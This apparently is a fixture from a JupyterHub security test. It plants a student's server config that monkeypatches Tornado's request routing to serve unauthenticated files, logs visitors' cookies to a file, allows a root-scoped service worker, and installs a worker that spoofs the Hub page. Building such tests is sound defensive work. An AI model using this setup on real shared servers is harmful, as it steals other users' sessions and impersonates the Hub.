"""A student's server that shows a page written by the student; hostile_page.js is its attack on whoever opens it.

The student needs only a file in their home, which their server reads when it starts. The page needs no login, so
everyone can see it, and the server records the cookies that browsers send.
"""

import os
from pathlib import Path

from tests.security.shell import Shell

SCRIPT = (Path(__file__).parent / "hostile_page.js").read_text()
CONFIGURATION = """
from pathlib import Path
from tornado.web import Application, RequestHandler

WWW = Path.home() / "www"

class Shown(RequestHandler):
    def get(self, name):
        with (WWW / "cookies.txt").open("a") as note:
            note.write(self.request.headers.get("Cookie", "") + "\\n")
        self.set_header("Content-Type", "text/javascript" if name.endswith(".js") else "text/html")
        self.set_header("Service-Worker-Allowed", "/")
        self.finish((WWW / name).read_bytes())

own = Application.find_handler

def find_handler(self, request, **more):
    if "/shown/" in request.path:
        name = request.path.rpartition("/")[2]
        return self.get_handler_delegate(request, Shown, path_args=[name.encode()])
    return own(self, request, **more)

Application.find_handler = find_handler
"""
PAGE = f"<!doctype html><title>My solution</title><p>Please look at this.</p><script>{SCRIPT}</script>"
WORKER = 'onfetch = (event) => event.respondWith(new Response("<h1>Not the Hub</h1>"));'


FILES = {".jupyter/jupyter_server_config.py": CONFIGURATION, "www/page.html": PAGE, "www/worker.js": WORKER}


def plant(home: Path, owner: int) -> None:
    """Write the student's files into a home whose server has not started yet."""
    for name, text in FILES.items():
        file = home / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text)
    if os.geteuid() == 0:
        for path in (home, *home.rglob("*")):
            os.chown(path, owner, owner)


def plant_from_inside(student: Shell) -> None:
    """Write the same files as a student could in JupyterLab; the server reads them at its next start."""
    assert "ready" in student.run("mkdir -p ~/www ~/.jupyter && echo ready")
    for name, text in FILES.items():
        visible = f"www/{Path(name).name}"
        model = {"type": "file", "format": "text", "content": text}
        written = student.request("PUT", f"/user/{student.name}/api/contents/{visible}", json=model)
        assert written.status_code in (200, 201), written.text
    assert "moved" in student.run("mv ~/www/jupyter_server_config.py ~/.jupyter/ && echo moved")
